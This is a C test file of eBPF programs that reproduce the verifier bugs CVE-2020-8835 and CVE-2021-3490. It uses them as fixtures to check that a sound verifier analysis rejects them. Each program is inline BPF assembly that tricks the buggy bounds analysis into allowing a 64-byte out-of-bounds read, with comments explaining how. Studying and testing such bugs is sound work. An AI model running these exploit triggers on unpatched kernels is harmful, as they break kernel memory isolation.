// SPDX-License-Identifier: MIT
/*
 * Exploits of real past verifier bugs, for the deliberately unsound
 * verifier-ext modes (vx_options.unsound): the sound analysis rejects
 * each, the unsound one accepts it, and smt/ must not elide its
 * out-of-bounds access (tests/smt/test_unsound.c).
 */
#include <linux/bpf.h>
#include <bpf/bpf_helpers.h>

struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, 1);
	__type(key, __u32);
	__type(value, __u64);
} val SEC(".maps");

/*
 * CVE-2020-8835: r2 in [1, 0x100000001] and w2 <= 1 makes the buggy
 * analysis believe w2 == 1, but r2 == 0x100000000 gives w2 == 0.  Then
 * (w2 ^ 1) * 64 is "0" to it and up to 64 in truth: an 8-byte value read
 * 64 bytes past its start.
 */
SEC("socket")
__attribute__((naked)) int cve_2020_8835(void)
{
	asm volatile ("r1 = 0;"
		      "*(u32 *)(r10 - 4) = r1;"
		      "r2 = r10;"
		      "r2 += -4;"
		      "r1 = %[val] ll;"
		      "call %[lookup];"
		      "if r0 == 0 goto l0_%=;"
		      "r6 = r0;"
		      "r2 = *(u64 *)(r6 + 0);"
		      "if r2 < 1 goto l0_%=;"
		      "r3 = 1;"
		      "r3 <<= 32;"
		      "r3 += 1;"
		      "if r2 > r3 goto l0_%=;"
		      "if w2 > 1 goto l0_%=;"
		      "w2 = w2;"
		      "r2 ^= 1;"
		      "r2 *= 64;"
		      "r6 += r2;"
		      "r0 = *(u64 *)(r6 + 0);"
		      "l0_%=: r0 = 0;"
		      "exit;"
		      :
		      : [val] "i"(&val), [lookup] "i"(BPF_FUNC_map_lookup_elem)
		      : "memory");
}

/*
 * CVE-2021-3490: r2's low half is known to be 1 and r3 = 0x100000002, so
 * r2 &= r3 makes the low half 0 while the buggy analysis keeps w2 in
 * [1, 1] (no reset of the impossible bounds that follow).  It then takes
 * "w2 > 0" as always true and never sees the fall-through path, which is
 * the only one that runs: r4 = 64, an 8-byte value read 64 bytes past its
 * start.
 */
SEC("socket")
__attribute__((naked)) int cve_2021_3490(void)
{
	asm volatile ("r1 = 0;"
		      "*(u32 *)(r10 - 4) = r1;"
		      "r2 = r10;"
		      "r2 += -4;"
		      "r1 = %[val] ll;"
		      "call %[lookup];"
		      "if r0 == 0 goto l0_%=;"
		      "r6 = r0;"
		      "r2 = *(u64 *)(r6 + 0);"
		      "r3 = 0xffffffff00000000 ll;"
		      "r2 &= r3;"
		      "r2 |= 1;"
		      "r3 = 0x100000002 ll;"
		      "r2 &= r3;"
		      "r4 = 0;"
		      "if w2 > 0 goto l1_%=;"
		      "r4 = 64;"
		      "l1_%=: r6 += r4;"
		      "r0 = *(u64 *)(r6 + 0);"
		      "l0_%=: r0 = 0;"
		      "exit;"
		      :
		      : [val] "i"(&val), [lookup] "i"(BPF_FUNC_map_lookup_elem)
		      : "memory");
}

char LICENSE[] SEC("license") = "GPL";
